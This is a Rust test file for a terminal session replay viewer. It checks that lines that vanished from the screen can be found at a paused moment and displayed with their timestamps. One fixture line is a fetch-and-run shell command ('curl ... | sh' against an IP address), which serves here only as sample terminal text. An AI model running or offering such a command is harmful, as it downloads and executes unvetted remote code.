//! What is gone from the screen, as it is asked for and looks.

use std::time::Duration;

use sudolog_core::term::{Streams, VanishedLine};

use super::view_tests::{paused, press};
use crate::app::{Action, App, Effect, update};
use crate::deck::{Gone, News, Span};
use crate::screens::snapshot::{at_both_sizes, drawn, dump};
use crate::source::Standing;

fn span(from: u64, to: u64) -> Span {
    Span { from, to, streams: Streams::default() }
}

fn tell(app: &mut App, span: Span) {
    let line = |seq: u64, text: &str| VanishedLine {
        seq,
        elapsed: Duration::from_millis(seq * 10_000 - 9_800),
        text: text.to_owned(),
    };
    let lines = vec![line(3, "# curl -s http://203.0.113.7/x | sh"), line(4, "  \"inside\" vim")];
    let gone = Gone { span, since: Duration::ZERO, lines };
    update(app, Action::Deck(News::Gone(Box::new(gone))));
}

#[test]
fn what_is_gone_is_looked_for_where_one_pauses_and_shown() {
    let mut app = paused(Standing::Whole);
    assert_eq!(press(&mut app, "x"), [Effect::LookForGone(Some(span(1, 5)))]);
    assert!(dump(&drawn(&app, 80, 24)).contains("looking for what is gone"));
    tell(&mut app, span(1, 4));
    assert!(!dump(&drawn(&app, 80, 24)).contains("curl"), "of another moment");
    tell(&mut app, span(1, 5));
    at_both_sizes("replay", "gone", &app);
    let text = dump(&drawn(&app, 80, 24));
    assert!(text.contains("2 lines were shown since 00:00 and are gone"), "{text}");
    assert!(text.contains("00:20.2 # curl -s http://203.0.113.7/x | sh"), "{text}");
    let effects = press(&mut app, ".");
    assert_eq!(effects, [Effect::Show(6), Effect::LookForGone(Some(span(1, 6)))]);
    assert!(!dump(&drawn(&app, 80, 24)).contains("curl"));
    assert_eq!(press(&mut app, "x"), [Effect::LookForGone(None)]);
    assert!(!dump(&drawn(&app, 80, 24)).contains("gone"));
}
